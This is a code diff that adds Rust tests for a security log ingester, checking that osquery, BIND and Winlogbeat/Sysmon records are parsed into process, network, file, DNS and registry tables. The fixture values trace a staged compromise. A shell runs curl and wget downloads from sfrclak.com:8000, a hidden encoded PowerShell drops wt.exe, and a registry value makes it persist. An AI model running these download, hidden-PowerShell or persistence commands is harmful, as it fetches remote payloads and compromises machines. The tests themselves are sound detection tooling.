@@ -200,3 +200,103 @@ fn any_ndjson_through_a_mapping_file() {
     );
     assert_eq!(row, ["2026-03-31T00:41:02.120Z", "start", "ci-runner-3", "5120", "node", "npm", "mapped"]);
 }
+
+#[test]
+fn osquery_differential_batched_and_snapshot_results() {
+    let t = ingest_files(&[documented("osquery_results.log")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Osquery));
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (7, 5, 2, 0));
+    let rows = query(
+        &t.store,
+        r#"SELECT "@timestamp", "event.code", "host.name", "process.pid", "process.name", "process.command_line", "process.parent.pid"
+           FROM process ORDER BY "@timestamp", "process.pid""#,
+    );
+    let expected = [
+        [
+            "2026-03-31T00:41:02Z",
+            "process_events",
+            "dev-laptop-07",
+            "4102",
+            "sh",
+            "/bin/sh -c curl -o /tmp/ld.py -s http://sfrclak.com:8000/6202033",
+            "4101",
+        ],
+        [
+            "2026-03-31T00:41:20Z",
+            "process_events",
+            "dev-laptop-07",
+            "4200",
+            "wget",
+            "wget http://sfrclak.com:8000/x",
+            "4102",
+        ],
+        ["2026-03-31T01:00:00Z", "processes", "dev-laptop-07", "1", "systemd", "/sbin/init", "0"],
+        ["2026-03-31T01:00:00Z", "processes", "dev-laptop-07", "4101", "node", "node setup.js", "4090"],
+    ];
+    assert_eq!(rows, common::rows(&expected));
+    let row = one_row(
+        &t.store,
+        r#"SELECT "process.name", "network.transport", "network.direction", "destination.ip", "destination.port", "source.port" FROM network"#,
+    );
+    assert_eq!(row, ["curl", "tcp", "outbound", "198.51.100.73", "8000", "51544"]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "event.code", "event.action", "file.path", "file.hash.sha256", "file.size" FROM file"#,
+    );
+    assert_eq!(row, ["file_events", "creation", "/tmp/ld.py", "feedbeef", "48213"]);
+}
+
+#[test]
+fn bind_query_log() {
+    let t = ingest_files(&[documented("bind_queries.log")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Bind));
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (5, 3, 2, 0));
+    let rows = query(
+        &t.store,
+        r#"SELECT "@timestamp", "source.ip", "source.port", "destination.ip", "dns.question.name", "dns.question.type", "network.transport", "log.file.line"
+           FROM dns ORDER BY "@timestamp""#,
+    );
+    let expected = [
+        ["2026-03-31T00:41:02.950Z", "10.20.0.7", "51544", "10.0.0.53", "sfrclak.com", "A", "udp", "2"],
+        ["2026-03-31T00:41:03.002Z", "10.20.0.9", "40112", "10.0.0.53", "notsfrclak.com", "A", "udp", "3"],
+        ["2026-03-31T00:41:05.300Z", "2001:db8::5", "40000", "2001:db8::53", "updates.example.org", "AAAA", "tcp", "4"],
+    ];
+    assert_eq!(rows, common::rows(&expected));
+}
+
+#[test]
+fn winlogbeat_sysmon_events() {
+    let t = ingest_files(&[documented("winlogbeat_sysmon.ndjson")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Winlogbeat));
+    assert_eq!((f.read, f.stored, f.rejected), (5, 4, 1));
+    assert_eq!(f.reject_reasons.keys().collect::<Vec<_>>(), ["no winlog.event_data"]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "@timestamp", "host.name", "user.name", "user.domain", "process.name", "process.command_line", "process.parent.name", "process.hash.sha256" FROM process"#,
+    );
+    assert_eq!(
+        row,
+        [
+            "2026-03-31T00:44:59.870Z",
+            "win-build-02.corp.example",
+            "builder",
+            "CORP",
+            "powershell.exe",
+            "powershell -nop -w hidden -enc SQBFAFgA",
+            "cmd.exe",
+            "ab12"
+        ]
+    );
+    let row = one_row(&t.store, r#"SELECT "file.path", "file.extension", "process.name" FROM file"#);
+    assert_eq!(row, [r"C:\ProgramData\wt.exe", "exe", "powershell.exe"]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "registry.hive", "registry.value", "registry.data.strings", "event.action" FROM registry"#,
+    );
+    assert_eq!(row, ["HKU", "wt", r"C:\ProgramData\wt.exe", "value_set"]);
+    let row = one_row(&t.store, r#"SELECT "dns.question.name", "dns.resolved_ip", "process.name" FROM dns"#);
+    assert_eq!(row, ["sfrclak.com", "[198.51.100.73]", "wt.exe"]);
+}
